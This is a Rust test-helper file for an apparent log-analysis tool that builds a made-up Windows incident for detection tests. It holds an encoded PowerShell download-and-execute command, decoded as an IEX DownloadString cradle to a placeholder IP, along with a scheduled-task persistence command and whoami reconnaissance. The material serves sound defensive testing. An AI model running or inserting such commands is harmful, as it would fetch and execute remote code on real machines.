//! A small, made-up incident as one value. No test itself.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::assigning_clones,
    reason = "a helper that panics is a failing test"
)]

use std::{path::PathBuf, sync::Arc};

use spawnscope::{
    detect::{chain, coverage},
    model::{
        ActivityKind, Analysis, Decoding, Event, FailedDecode, Finding, Format, Host, Indicator,
        IndicatorKind, Issue, IssueKind, Layer, Matched, ProcessIndex, Severity, Source,
        SourceIndex, Span, StubReason,
    },
};

use crate::made::{self, POWERSHELL, SYSMON, TASKS, at, did};

const ENCODED: &str = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA";
const DECODED: &str = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')";

fn source(name: &str, records: u64, lost: u64) -> Source {
    Source {
        path: PathBuf::from(format!("LAPTOP-7F2K/{name}")),
        member: None,
        bytes: 1_118_208,
        sha256: Some("9785001b0dcf755eddb8af294a373c5f8f8f6a4d5e0a8f2b1c3d4e5f60718293".to_owned()),
        format: Format::Evtx,
        dialect: None,
        records,
        unreadable_records: lost,
        recovered_records: 0,
        modified: Some(at("15:31:00")),
        recognised_by: Some("signature ElfFile".to_owned()),
        reader: "Spawnscope 0.0.0-test, evtx 0.0.0",
        first: Some(at("13:30:04")),
        last: Some(at("15:30:11")),
    }
}

const DROPPED: &str = r"C:\Users\mlopez\AppData\Local\Temp\zcrash.dll";

fn events() -> Vec<Event> {
    let net = |clock, ip, port| {
        made::event(SYSMON, 3, clock, &[("DestinationIp", ip), ("DestinationPort", port)])
    };
    let mut events = vec![
        made::event(SYSMON, 15, "13:31:00", &[("TargetFilename", "a.exe:Zone.Identifier")]),
        made::event(SYSMON, 1, "13:41:52", &[]),
        made::event(SYSMON, 1, "13:44:10", &[]),
        made::event(SYSMON, 4, "14:02:11", &[("State", "Stopped")]),
        made::event(SYSMON, 4, "14:20:03", &[("State", "Started")]),
        made::event(SYSMON, 1, "14:21:07", &[]),
        made::event(POWERSHELL, 4104, "14:21:09", &[("ScriptBlockText", "IEX …")]),
        net("14:21:09", "198.51.100.23", "80"),
        made::event(SYSMON, 1, "14:21:31", &[]),
        made::event(SYSMON, 1, "14:21:32", &[]),
        made::event(SYSMON, 11, "14:21:58", &[("TargetFilename", DROPPED)]),
        made::event(SYSMON, 1, "14:22:15", &[]),
        made::event(TASKS, 106, "14:22:16", &[("TaskName", r"\ZoomUpdate")]),
        net("14:22:48", "203.0.113.44", "443"),
        net("14:23:48", "203.0.113.44", "443"),
        made::event(SYSMON, 13, "14:24:00", &[]),
        made::event("Security", 4624, "15:30:11", &[]),
    ];
    for (at, event) in (48_200u64..).zip(&mut events) {
        event.record_id = Some(at);
        event.source = SourceIndex(u32::from(event.channel() != SYSMON));
    }
    events
}

fn decoding() -> Decoding {
    Decoding {
        layers: vec![Layer {
            trick: "Base64, UTF-16LE".to_owned(),
            text: DECODED.to_owned(),
            span: Span { from: 35, to: 67 },
            from: Some("-enc".to_owned()),
        }],
        failed: vec![FailedDecode {
            trick: "Base64".to_owned(),
            span: Span { from: 0, to: 8 },
            reason: "the padding is wrong".to_owned(),
        }],
        indicators: vec![
            Indicator::new(
                IndicatorKind::Url,
                "http://198.51.100.23/u.ps1",
                Span { from: 0, to: 0 },
            ),
            Indicator::new(IndicatorKind::Domain, "cdn.evil.example", Span { from: 0, to: 0 }),
        ],
        traits: vec!["hidden window".into(), "downloads".into(), "runs in memory".into()],
        ..Decoding::default()
    }
}

fn findings() -> Vec<Finding> {
    let mut zoom =
        made::finding("spawnscope-zoom-child", 3, 5, &["attack.execution", "attack.t1059.001"]);
    zoom.rule.title = "Suspicious Zoom Child Process".to_owned();
    zoom.rule.uuid = Some("97aba1ef-0000-0000-0000-000000000000".to_owned());
    zoom.title = "Zoom started hidden PowerShell".to_owned();
    zoom.severity = Severity::Critical;
    zoom.raised_by = ["hidden window", "encoded command", "downloads", "runs in memory"]
        .map(str::to_owned)
        .to_vec();
    zoom.time = Some(at("14:21:07"));
    zoom.matched = vec![
        Matched {
            field: "ParentImage".to_owned(),
            value: r"C:\Users\mlopez\AppData\Roaming\Zoom\bin\Zoom.exe".to_owned(),
            pattern: r"*\Zoom.exe".to_owned(),
            derived: false,
            span: (0, 0),
        },
        Matched {
            field: "Image".to_owned(),
            value: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe".to_owned(),
            pattern: r"*\powershell.exe".to_owned(),
            derived: false,
            span: (0, 0),
        },
    ];
    let mut task =
        made::finding("task-from-temp", 6, 11, &["attack.persistence", "attack.t1053.005"]);
    task.rule.title = "Task runs a DLL from Temp".to_owned();
    task.title = task.rule.title.clone();
    task.severity = Severity::High;
    task.rule.level = Severity::High;
    task.time = Some(at("14:22:15"));
    vec![zoom, task]
}

/// Zoom starts a hidden, encoded PowerShell; Sysmon was off shortly before.
pub(crate) fn incident() -> Analysis {
    let zoom = r"C:\Users\mlopez\AppData\Roaming\Zoom\bin\Zoom.exe";
    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let task = r"schtasks.exe /create /f /sc minute /mo 30 /tn \ZoomUpdate /tr rundll32";
    let mut processes = vec![
        (made::process(6120, r"C:\Windows\explorer.exe", "", "13:00:00", 0), None),
        (made::process(9184, zoom, &format!("\"{zoom}\""), "13:41:52", 1), Some(0)),
        (
            made::process(10432, r"C:\Zoom\CptHost.exe", "CptHost.exe -key 1", "13:44:10", 2),
            Some(1),
        ),
        (made::process(11872, powershell, ENCODED, "14:21:07", 5), Some(1)),
        (
            made::process(12004, r"C:\Windows\cmd.exe", "cmd.exe /c whoami /all", "14:21:31", 8),
            Some(3),
        ),
        (made::process(12016, r"C:\Windows\whoami.exe", "whoami /all", "14:21:32", 9), Some(4)),
        (made::process(12212, r"C:\Windows\schtasks.exe", task, "14:22:15", 11), Some(3)),
    ];
    processes[0].0.stub = Some(StubReason::BeforeLogs);
    processes[0].0.witnesses.clear();
    processes[0].0.start = None;
    let shell = &mut processes[3].0;
    shell.decoding = Some(Arc::new(decoding()));
    shell.activity = vec![
        did(ActivityKind::Script, "14:21:09", 6),
        did(ActivityKind::Network, "14:21:09", 7),
        did(ActivityKind::File, "14:21:58", 10),
        did(ActivityKind::Network, "14:22:48", 13),
        did(ActivityKind::Network, "14:23:48", 14),
    ];
    let tree = made::tree(processes);
    let events = events();
    let findings = findings();
    let coverage = coverage::coverage(&events, &str::to_owned);
    let zoom_roots = vec![ProcessIndex(1)];
    let chain = chain::chain(&chain::ChainInput {
        events: &events,
        tree: &tree,
        findings: &findings,
        coverage: &coverage,
        zoom_roots: &zoom_roots,
    });
    Analysis {
        sources: vec![source("Sysmon.evtx", 214_000, 0), source("Security.evtx", 907, 7)],
        events: Arc::new(events),
        hosts: vec![Host {
            name: "PC1".to_owned(),
            processes: 6,
            events: 17,
            first: Some(at("13:31:00")),
            last: Some(at("15:30:11")),
        }],
        tree,
        findings,
        chain,
        coverage,
        issues: vec![Issue {
            path: PathBuf::from("LAPTOP-7F2K/Security.evtx"),
            member: None,
            offset: Some(1_048_576),
            kind: IssueKind::Damaged,
            message: "The chunk's checksum is wrong; about 7 records are lost.".to_owned(),
        }],
        zoom_roots,
        ..Analysis::default()
    }
}

/// Every text of the incident that a log could hold replaced by this one.
pub(crate) fn hostile(text: &str) -> Analysis {
    let mut analysis = incident();
    let own = || text.to_owned();
    for process in &mut analysis.tree.processes {
        process.host = own().into();
        process.image = Some(own().into());
        process.command_line = Some(own().into());
        process.user = Some(own().into());
        if let Some(decoding) = process.decoding.as_mut().map(Arc::make_mut) {
            decoding.layers.iter_mut().for_each(|layer| {
                layer.text = own();
                layer.trick = own();
                layer.from = Some(own());
            });
            decoding.failed.iter_mut().for_each(|failed| failed.reason = own());
            decoding.indicators.iter_mut().for_each(|indicator| indicator.value = own());
        }
    }
    for finding in &mut analysis.findings {
        finding.title = own();
        finding.host = own();
        finding.rule.title = own();
        finding.rule.id = format!("{text}x");
        finding.rule.tags = vec![format!("attack.t1{text}"), own()];
        finding.raised_by = vec![own()];
        for matched in &mut finding.matched {
            *matched = Matched {
                field: own(),
                value: own(),
                pattern: own(),
                derived: false,
                span: (0, 0),
            };
        }
    }
    analysis.findings[0].rule.id = "spawnscope-zoom-child".to_owned();
    for entry in &mut analysis.coverage {
        entry.host = own();
        entry.note = Some(own());
        entry.gaps.iter_mut().for_each(|gap| gap.why = own());
    }
    for step in &mut analysis.chain {
        step.summary = step.summary.take().map(|_| own());
        step.missing.iter_mut().for_each(|missing| *missing = own());
    }
    let events = Arc::get_mut(&mut analysis.events).unwrap();
    for event in events {
        event.fields = event.fields.iter().map(|(name, _)| (name, text)).collect();
        Arc::make_mut(&mut event.origin).channel = text.into();
    }
    for source in &mut analysis.sources {
        source.path = PathBuf::from(text);
        source.member = Some(own());
        source.sha256 = Some(own());
    }
    analysis.hosts[0].name = own();
    analysis.issues[0].path = PathBuf::from(text);
    analysis.issues[0].message = own();
    analysis
}
